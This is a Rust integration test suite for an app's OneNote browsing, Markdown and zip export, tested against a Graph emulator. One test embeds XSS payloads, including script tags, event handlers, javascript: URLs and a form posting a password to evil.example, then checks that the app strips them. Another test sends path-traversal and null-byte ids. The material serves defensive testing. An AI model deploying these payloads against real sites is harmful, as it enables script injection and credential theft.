//! OneNote in the app, end to end against the emulator: incremental consent, browsing every
//! notebook, section group and section, every page's view, Markdown (against golden files) and
//! zip (every link resolves to a file whose bytes are the emulator's resource), hostile page
//! content shown inert, isolation between users, and ids that are not ids.
//!
//! Golden files live in `tests/golden/`; run with `UPDATE_GOLDEN=1` to rewrite them after a
//! deliberate change to the converter or the seed, and read the diff.

mod support;

use std::collections::{BTreeMap, HashSet};
use std::io::Read;
use std::path::PathBuf;

use aws_lc_rs::digest;
use emulator::testing::TestEmulator;
use reqwest::{Method, StatusCode};
use serde_json::json;
use support::*;

/// Every `href`/`src`/Markdown link target in a page body.
fn links(text: &str, marker: &str, end: char) -> Vec<String> {
    let mut out = Vec::new();
    let mut rest = text;
    while let Some(i) = rest.find(marker) {
        rest = &rest[i + marker.len()..];
        if let Some(j) = rest.find(end) {
            out.push(rest[..j].to_string());
        }
    }
    out
}

/// The id in the first `href="{prefix}{id}">{text}<` of a page.
fn link_to(html: &str, prefix: &str, text: &str) -> Option<String> {
    let marker = format!("\">{text}<");
    let end = html.find(&marker)?;
    let start = html[..end].rfind(prefix)? + prefix.len();
    Some(html[start..end].to_string())
}

fn relative_links(markdown: &str) -> Vec<String> {
    let mut all = links(markdown, "](", ')');
    all.extend(links(markdown, "src=\"", '"'));
    all.extend(links(markdown, "href=\"", '"'));
    all.into_iter()
        .map(|l| {
            l.split_whitespace()
                .next()
                .unwrap_or("")
                .trim_matches(['<', '>'])
                .to_string()
        })
        .filter(|l| !l.is_empty() && !l.contains(':') && !l.starts_with('#'))
        .collect()
}

fn sha256_hex(bytes: &[u8]) -> String {
    digest::digest(&digest::SHA256, bytes)
        .as_ref()
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

fn golden_dir() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/golden/ada")
}

fn slug(text: &str) -> String {
    let s: String = text
        .chars()
        .map(|c| {
            if c.is_ascii_alphanumeric() {
                c.to_ascii_lowercase()
            } else {
                '-'
            }
        })
        .collect();
    s.split('-')
        .filter(|p| !p.is_empty())
        .collect::<Vec<_>>()
        .join("-")
}

#[tokio::test]
async fn browse_read_and_download_every_seeded_page() {
    let emu = TestEmulator::start().await;
    admin(
        &emu,
        Method::PUT,
        "/limits",
        json!({"per_minute": 100000, "per_hour": 1000000, "concurrent": 20}),
    )
    .await;
    let dir = TempDir::new();
    let store = format!("sqlite:{}", dir.0.join("s.sqlite3").display());
    let app = TestApp::start_with(&emu, &store, generous_onenote_limits).await;
    let ada = User::new();
    ada.sign_in(&app, "ada@contoso.example").await;

    // The first visit asks for Notes.Read (incremental consent) and comes back.
    let first = ada.get(&app.url("/onenote")).await;
    assert_eq!(first.status(), StatusCode::SEE_OTHER);
    assert_eq!(location(&first), "/login?next=%2Fonenote&consent=onenote");
    let back = ada
        .sign_in_at(&app, "/onenote", "ada@contoso.example")
        .await;
    assert_eq!(location(&back), "/onenote");
    let index = ada.get(&app.url("/onenote")).await;
    assert_eq!(index.status(), StatusCode::OK);
    let index = index.text().await.unwrap();
    for name in [
        "Ada&#39;s Notebook",
        "Quick Notes",
        "Reference",
        "Journal",
        "Archive",
        "Older",
        "2019",
        "Clients",
        "Northwind",
    ] {
        let plain = name.replace("&#39;", "'");
        assert!(
            index.contains(name) || index.contains(&plain),
            "the index shows {plain}"
        );
    }

    // Every section, every page of it (following the pager), every download.
    let resources: serde_json::Value =
        reqwest::get(emu.admin("/onenote/ada@contoso.example/resources"))
            .await
            .unwrap()
            .json()
            .await
            .unwrap();
    let hashes: HashSet<String> = resources["resources"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["sha256"].as_str().unwrap().to_string())
        .collect();
    let update = std::env::var("UPDATE_GOLDEN").is_ok();
    let mut seen_golden = HashSet::new();
    let mut pages_checked = 0;
    let sections = links(&index, "/onenote/sections/", '"');
    assert!(sections.len() >= 7, "{sections:?}");
    for section in sections {
        let mut url = app.url(&format!("/onenote/sections/{section}"));
        let mut order = 0;
        loop {
            let listing = ada.get(&url).await;
            assert_eq!(listing.status(), StatusCode::OK, "{url}");
            let listing = listing.text().await.unwrap();
            let section_name = listing
                .split("<h1>")
                .nth(1)
                .and_then(|s| s.split("</h1>").next())
                .unwrap()
                .to_string();
            for page in links(&listing, "/onenote/pages/", '"') {
                order += 1;
                pages_checked += 1;
                let view = ada.get(&app.url(&format!("/onenote/pages/{page}"))).await;
                assert_eq!(view.status(), StatusCode::OK);
                let html = view.text().await.unwrap();
                for image in links(&html, "<img src=\"", '"') {
                    let image = ada.get(&format!("{}{image}", app.base_url)).await;
                    assert_eq!(
                        image.status(),
                        StatusCode::OK,
                        "images load through the app"
                    );
                    assert!(hashes.contains(&sha256_hex(&image.bytes().await.unwrap())));
                }

                let md = ada
                    .get(&app.url(&format!("/onenote/pages/{page}.md")))
                    .await;
                assert_eq!(md.headers()["content-type"], "text/markdown; charset=utf-8");
                assert!(
                    md.headers()["content-disposition"]
                        .to_str()
                        .unwrap()
                        .starts_with("attachment")
                );
                let markdown = md.text().await.unwrap();
                let title = markdown
                    .lines()
                    .find_map(|l| l.strip_prefix("title: "))
                    .unwrap_or("untitled")
                    .trim_matches('"')
                    .to_string();
                let golden = golden_dir()
                    .join(slug(&section_name))
                    .join(format!("{order:03}-{}.md", slug(&title)));
                seen_golden.insert(golden.clone());
                if update {
                    std::fs::create_dir_all(golden.parent().unwrap()).unwrap();
                    std::fs::write(&golden, &markdown).unwrap();
                } else {
                    let expected = std::fs::read_to_string(&golden)
                        .unwrap_or_else(|_| panic!("missing golden file {}", golden.display()));
                    assert_eq!(
                        markdown,
                        expected,
                        "{} differs (UPDATE_GOLDEN=1 rewrites it)",
                        golden.display()
                    );
                }

                let zip = ada
                    .get(&app.url(&format!("/onenote/pages/{page}.zip")))
                    .await;
                assert_eq!(zip.status(), StatusCode::OK);
                assert_eq!(zip.headers()["content-type"], "application/zip");
                let mut archive =
                    zip::ZipArchive::new(std::io::Cursor::new(zip.bytes().await.unwrap().to_vec()))
                        .unwrap();
                let mut files: BTreeMap<String, Vec<u8>> = BTreeMap::new();
                for i in 0..archive.len() {
                    let mut entry = archive.by_index(i).unwrap();
                    let name = entry.name().unwrap().to_string();
                    assert!(!name.contains("..") && !name.starts_with('/'), "{name}");
                    let mut bytes = Vec::new();
                    entry.read_to_end(&mut bytes).unwrap();
                    files.insert(name, bytes);
                }
                let (md_name, md_bytes) = files
                    .iter()
                    .find(|(n, _)| n.ends_with(".md"))
                    .expect("a Markdown file in the zip");
                let folder = md_name
                    .rsplit_once('/')
                    .map(|(f, _)| format!("{f}/"))
                    .unwrap_or_default();
                let zipped_markdown = String::from_utf8(md_bytes.clone()).unwrap();
                assert_eq!(zipped_markdown, markdown, "the zip holds the same Markdown");
                for link in relative_links(&zipped_markdown) {
                    let decoded = percent_encoding::percent_decode_str(&link)
                        .decode_utf8_lossy()
                        .into_owned();
                    let bytes = files.get(&format!("{folder}{decoded}")).unwrap_or_else(|| {
                        panic!("{link} in {md_name} is not in the zip: {:?}", files.keys())
                    });
                    assert!(
                        hashes.contains(&sha256_hex(bytes)),
                        "{link}: the bytes are the emulator's resource"
                    );
                }
            }
            match links(&listing, "rel=\"next\" href=\"", '"').first() {
                Some(next) => url = format!("{}{}", app.base_url, next.replace("&amp;", "&")),
                None => break,
            }
        }
    }
    assert!(
        pages_checked >= 130,
        "all of Ada's pages were checked ({pages_checked})"
    );
    if !update {
        // No golden file is left over from pages that no longer exist.
        let mut on_disk = HashSet::new();
        for section in std::fs::read_dir(golden_dir()).unwrap() {
            for file in std::fs::read_dir(section.unwrap().path()).unwrap() {
                on_disk.insert(file.unwrap().path());
            }
        }
        assert_eq!(on_disk, seen_golden);
    }
}

#[tokio::test]
async fn hostile_page_content_is_shown_inert() {
    let emu = TestEmulator::start().await;
    let dir = TempDir::new();
    let app = TestApp::start(&emu, &dir).await;
    let token = graph_token(&emu, "grace@contoso.example", "Notes.ReadWrite openid").await;
    let graph = reqwest::Client::new();
    let sections: serde_json::Value = graph
        .get(format!("{}/v1.0/me/onenote/sections", emu.base_url))
        .bearer_auth(&token)
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let section = sections["value"][0]["id"].as_str().unwrap();
    let hostile = r#"<!DOCTYPE html><html><head><title>Pwn &lt;script&gt;alert(1)&lt;/script&gt;</title></head><body>
<p onclick="alert(1)" onmouseover="alert(2)">Click me</p>
<script>alert('script')</script>
<a href="javascript:alert(3)">js link</a> <a href="data:text/html,<script>alert(4)</script>">data link</a>
<img src="https://evil.example/track.png" onerror="alert(5)" alt="external"/>
<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoNikiLz4=" alt="data image"/>
<p style="background-image:url(javascript:alert(7));width:expression(alert(8))">css</p>
<form action="https://evil.example/steal"><input name="password"/><button>Go</button></form>
<iframe src="https://evil.example/frame"></iframe>
<svg><script>alert(9)</script></svg>
<p>Fine text</p>
</body></html>"#;
    let created = graph
        .post(format!(
            "{}/v1.0/me/onenote/sections/{section}/pages",
            emu.base_url
        ))
        .bearer_auth(&token)
        .header("content-type", "text/html")
        .body(hostile)
        .send()
        .await
        .unwrap();
    let status = created.status();
    let body = created.text().await.unwrap();
    assert_eq!(status, StatusCode::CREATED, "{body}");
    let page: serde_json::Value = serde_json::from_str(&body).unwrap();
    let id = page["id"].as_str().unwrap();

    let user = User::new();
    user.sign_in_for_onenote(&app, "grace@contoso.example")
        .await;
    let view = user.get(&app.url(&format!("/onenote/pages/{id}"))).await;
    assert_eq!(view.status(), StatusCode::OK);
    let csp = view.headers()["content-security-policy"]
        .to_str()
        .unwrap()
        .to_string();
    let directive = |name: &str| {
        csp.split(';')
            .map(str::trim)
            .find_map(|d| d.strip_prefix(name).map(|v| v.trim().to_string()))
    };
    assert_eq!(
        directive("script-src ").as_deref(),
        Some("'self'"),
        "no inline script: {csp}"
    );
    assert_eq!(
        directive("default-src ").as_deref(),
        Some("'none'"),
        "{csp}"
    );
    assert_eq!(
        directive("frame-ancestors ").as_deref(),
        Some("'none'"),
        "{csp}"
    );
    let html = view.text().await.unwrap();
    let lower = html.to_ascii_lowercase();
    assert!(html.contains("Fine text"));
    for forbidden in [
        "<script",
        "onclick",
        "onerror",
        "onload",
        "onmouseover",
        "javascript:",
        "expression(",
        "evil.example",
        "<form",
        "<iframe",
        "<svg",
        "data:text/html",
    ] {
        assert!(
            !lower.contains(forbidden),
            "{forbidden} must not survive: {html}"
        );
    }
}

#[tokio::test]
async fn another_users_pages_and_resources_are_not_found_and_bad_ids_never_reach_graph() {
    let emu = TestEmulator::start().await;
    admin(
        &emu,
        Method::PUT,
        "/limits",
        json!({"per_minute": 100000, "per_hour": 1000000, "concurrent": 20}),
    )
    .await;
    let dir = TempDir::new();
    let app = TestApp::start(&emu, &dir).await;
    let resources: serde_json::Value =
        reqwest::get(emu.admin("/onenote/ada@contoso.example/resources"))
            .await
            .unwrap()
            .json()
            .await
            .unwrap();
    let adas_resource = resources["resources"][0]["id"]
        .as_str()
        .unwrap()
        .to_string();
    let adas_page = resources["resources"][0]["page"]
        .as_str()
        .unwrap()
        .to_string();

    let mallory = User::new();
    mallory
        .sign_in_for_onenote(&app, "mallory@fabrikam.example")
        .await;
    assert_eq!(
        mallory.get(&app.url("/onenote")).await.status(),
        StatusCode::OK
    );
    for path in [
        format!("/onenote/pages/{adas_page}"),
        format!("/onenote/pages/{adas_page}.md"),
        format!("/onenote/pages/{adas_page}.zip"),
        format!("/onenote/resources/{adas_resource}"),
    ] {
        let response = mallory.get(&app.url(&path)).await;
        assert_eq!(response.status(), StatusCode::NOT_FOUND, "{path}");
    }
    let since = log_position(&emu).await;
    for bad in [
        "..%2F..%2Fme",
        "https:%2F%2Fevil.example%2Fx",
        "%2E%2E",
        "a%00b",
        "1-abc!1-def%3Fx=1",
        "x\u{202e}y",
    ] {
        let response = mallory
            .get(&app.url(&format!("/onenote/resources/{bad}")))
            .await;
        assert_eq!(response.status(), StatusCode::NOT_FOUND, "{bad}");
        let response = mallory
            .get(&app.url(&format!("/onenote/pages/{bad}")))
            .await;
        assert!(
            response.status() == StatusCode::NOT_FOUND
                || response.status() == StatusCode::BAD_REQUEST,
            "{bad}"
        );
    }
    let log = admin(
        &emu,
        Method::GET,
        &format!("/log?since={since}"),
        serde_json::Value::Null,
    )
    .await;
    assert!(
        log["entries"]
            .as_array()
            .unwrap()
            .iter()
            .all(|e| !e["path"].as_str().unwrap().contains("evil")),
        "nothing reached Graph"
    );
}

/// The largest number of the user's OneNote requests the emulator had in flight at once.
fn max_in_flight(entries: &[serde_json::Value], user: &str) -> usize {
    let mut events: Vec<(f64, i32)> = Vec::new();
    for e in entries
        .iter()
        .filter(|e| e["user"] == user && e["path"].as_str().unwrap_or("").contains("/onenote/"))
    {
        events.push((e["started_ms"].as_f64().unwrap(), 1));
        events.push((e["finished_ms"].as_f64().unwrap(), -1));
    }
    // Ends sort before starts at the same instant.
    events.sort_by(|a, b| a.0.total_cmp(&b.0).then(a.1.cmp(&b.1)));
    let (mut now, mut max) = (0i32, 0i32);
    for (_, delta) in events {
        now += delta;
        max = max.max(now);
    }
    max as usize
}

#[tokio::test]
async fn throttled_onenote_slows_down_but_works_and_stays_within_the_limits() {
    let emu = TestEmulator::start().await;
    admin(
        &emu,
        Method::PUT,
        "/limits",
        json!({"per_minute": 600, "per_hour": 10000, "concurrent": 2}),
    )
    .await;
    let dir = TempDir::new();
    let store = format!("sqlite:{}", dir.0.join("s.sqlite3").display());
    let app = TestApp::start_with(&emu, &store, |env| {
        env.insert("ONENOTE_MAX_CONCURRENT".into(), "2".into());
        env.insert("ONENOTE_PER_MINUTE".into(), "600".into());
        env.insert("ONENOTE_PER_HOUR".into(), "10000".into());
    })
    .await;
    let user = User::new();
    user.sign_in_for_onenote(&app, "alan@contoso.example").await;
    let since = log_position(&emu).await;

    // Three 429s without Retry-After on resources, as OneNote sends them.
    admin(&emu, Method::POST, "/faults", json!({"path": "/v1.0/me/onenote/resources", "count": 3, "answer": {"kind": "status", "status": 429}})).await;
    let index = user.get(&app.url("/onenote")).await.text().await.unwrap();
    let reference =
        link_to(&index, "/onenote/sections/", "Reference").expect("the Reference section");
    let listing = user
        .get(&app.url(&format!("/onenote/sections/{reference}")))
        .await
        .text()
        .await
        .unwrap();
    let images_page = link_to(&listing, "/onenote/pages/", "Images").expect("the Images page");
    let zip = user
        .get(&app.url(&format!("/onenote/pages/{images_page}.zip")))
        .await;
    assert_eq!(
        zip.status(),
        StatusCode::OK,
        "the zip waits out the throttling"
    );
    let archive =
        zip::ZipArchive::new(std::io::Cursor::new(zip.bytes().await.unwrap().to_vec())).unwrap();
    assert!(archive.len() >= 3, "Markdown plus the images");

    let log = admin(
        &emu,
        Method::GET,
        &format!("/log?since={since}"),
        serde_json::Value::Null,
    )
    .await;
    let entries = log["entries"].as_array().unwrap().clone();
    assert_eq!(
        entries.iter().filter(|e| e["status"] == 429).count(),
        3,
        "only the injected 429s: the app caused none"
    );
    assert!(
        max_in_flight(&entries, "alan@contoso.example") <= 2,
        "the app kept to two requests in flight"
    );

    // When OneNote keeps refusing, the page says so and when to come back.
    admin(&emu, Method::POST, "/faults", json!({"path": "/v1.0/me/onenote/pages", "count": 50, "answer": {"kind": "status", "status": 429}})).await;
    let refused = user
        .get(&app.url(&format!("/onenote/pages/{images_page}")))
        .await;
    assert_eq!(refused.status(), StatusCode::TOO_MANY_REQUESTS);
    assert!(refused.headers().contains_key("retry-after"));
    assert!(
        refused
            .text()
            .await
            .unwrap()
            .contains("Microsoft Graph is busy")
    );
    admin(&emu, Method::DELETE, "/faults", serde_json::Value::Null).await;
}
